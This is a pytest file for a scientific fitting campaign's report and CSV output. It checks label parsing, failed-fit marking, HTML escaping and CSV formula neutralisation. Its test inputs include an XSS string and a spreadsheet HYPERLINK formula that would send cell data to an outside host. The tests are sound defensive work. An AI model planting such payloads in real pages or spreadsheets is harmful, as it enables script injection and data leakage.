"""The campaign report's pieces, without a cluster: labels on a numeric axis, points taken only when they
are numbers, failed fits marked, and every model-controlled string escaped (the end-to-end report of a
real campaign is in test_sasmodels)."""

from __future__ import annotations

import math

from conftest import ParsedPage

from bumps_mpi.results import campaign_report


def row(i, label, best=1.0, std=0.1, chisq=1.2, error=None, name="radius"):
    parameters = {} if chisq is None else {name: {"best": best, "mean": best, "std": std}}
    state = "COMPLETED" if chisq is not None else "FAILED"
    return {"index": i, "label": label, "job_id": f"7_{i}", "state": state, "chisq": chisq,
            "parameters": parameters, "error": error, "job_dir": None}  # fmt: skip


def test_labels_with_one_number_each_go_on_a_numeric_axis():
    assert campaign_report.label_number("/data/run/T20.dat") == 20.0
    assert campaign_report.label_number("--temperature 35.5") == 35.5
    assert campaign_report.label_number("scan_0042.h5") == 42.0
    assert campaign_report.label_number("data/peak-100K.dat") == 100.0  # a dash between words: no sign
    assert campaign_report.label_number("--temperature -35") == -35.0
    assert campaign_report.label_number("x=-2.5") == -2.5
    assert campaign_report.label_number("sample-a.dat") is None
    assert campaign_report.label_number("T20_run3.dat") is None  # two numbers: which one?
    numeric = campaign_report.series([row(0, "/d/T30.dat"), row(1, "/d/T20.dat")])
    assert numeric.numeric and numeric.positions == [30.0, 20.0]
    named = campaign_report.series([row(0, "/d/a.dat"), row(1, "/d/b.dat")])
    assert not named.numeric and named.positions == [0.0, 1.0]


def test_only_finite_numbers_are_drawn_and_a_fit_without_result_is_marked():
    points = campaign_report.series(
        [
            row(0, "T1.dat"),
            row(1, "T2.dat", best="NaN"),
            row(2, "T3.dat", best=[1]),
            row(3, "T4.dat", chisq=None),
        ]
    )
    assert points.parameters["radius"][0] == (1.0, 0.9, 1.1)
    assert points.parameters["radius"][1:] == [None, None, None] and points.failed == [3]
    assert all(math.isfinite(c) for c in points.chisq[:3]) and points.chisq[3] is None


def test_the_page_escapes_what_the_models_wrote(tmp_path):
    hostile = "<script>alert(1)</script>"
    rows = [
        row(0, f"{hostile}.dat", name=f"$\\frac{{1}}{{0}}$ {hostile}"),
        row(1, "b.dat", chisq=None, error=hostile),
    ]
    text = campaign_report.page(tmp_path, f"campaign {hostile}", rows)
    assert "<script" not in text and "&lt;script&gt;" in text
    page = ParsedPage(text)
    assert [img["alt"] for img in page.elements("img")] == [
        rows[0]["parameters"].popitem()[0],
        "chi-square of every fit",
    ]
    assert all(img["src"].startswith("data:image/png;base64,") for img in page.elements("img"))
    assert "Content-Security-Policy" in text and page.elements("a") == []  # no report to link to


def test_the_csv_runs_nothing_in_a_spreadsheet_and_the_figures_are_capped(tmp_path):
    """Parameter names come from the fits' result files: a formula stays text in results.csv, and a
    flood of names draws at most MAX_PARAMETERS figures."""
    from bumps_mpi.front import campaign_table

    formula = '=HYPERLINK("http://x/?"&A2)'
    rows = [row(0, "a.dat", name=formula), row(1, "-b.dat", chisq=None, error="@SUM(1)")]
    text = campaign_table.write_csv(tmp_path, rows)
    assert "'=HYPERLINK" in text and "'-b.dat" in text and "'@SUM(1)" in text
    assert not any(cell.startswith(("=", "@")) for line in text.splitlines() for cell in line.split(","))
    flood = {"index": 0, "label": "x", "state": "COMPLETED", "chisq": 1.0, "error": None, "job_dir": None,
             "parameters": {f"p{i}": {"best": 1.0, "mean": 1.0, "std": 0.1} for i in range(500)}}  # fmt: skip
    points = campaign_report.series([flood])
    assert len(points.parameters) == campaign_report.MAX_PARAMETERS
